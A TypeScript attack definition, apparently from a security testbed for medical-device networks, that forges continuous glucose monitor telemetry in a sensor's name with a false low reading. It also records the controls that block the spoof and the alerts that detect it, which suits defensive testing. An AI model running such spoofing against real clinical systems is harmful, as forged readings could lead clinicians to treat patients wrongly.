import { z } from 'zod';
import { encodeEnvelope } from '../../net/envelope.ts';
import { defineAttack } from './attack.ts';
import { connectAsAttacker, runOf, targetTopic } from './support.ts';

/** A false low reading in the CGM's name: the clinician treats a hypoglycaemia that is not there. */
export const spoofedLowGlucose = defineAttack({
  name: 'attack.spoofed-low-glucose',
  category: 'attack',
  summary: 'publish CGM telemetry in the sensor’s name with a false low glucose',
  precedent:
    'Spoofed reporting (ATT&CK for ICS T0856); CISA ICSMA-18-219-02 and ICSMA-19-080-01 (docs/advisories.md): medical ' +
    'telemetry carried without authentication can be read and forged by anyone on the link.',
  labels: {},
  techniques: ['T0856', 'T0832'],
  stoppedBy: [
    { control: 'authentication', how: 'an outsider cannot connect' },
    { control: 'acl', how: 'a device publishes only under its own topic: another identity’s spoof is dropped' },
  ],
  detectedBy: ['unknown-client', 'unexpected-topic', 'refused-access'],
  impacts: ['time-to-detection'],
  params: z.strictObject({
    glucose: z.number().min(20).max(600).default(40).describe('the false reading, mg/dL'),
    seq: z.number().int().positive().default(2).describe('sequence number to claim'),
  }),
  async execute(context, params) {
    const { target } = context;
    const session = await connectAsAttacker(context);
    const body = { glucose: params.glucose, trend: 'flat' };
    const payload = encodeEnvelope({ v: 1, device: target.deviceId, kind: target.kind, seq: params.seq, t: context.adversary.now(), body });
    await session?.publish(targetTopic(target, 'telemetry'), payload);
    return runOf(target.site, [session]);
  },
});
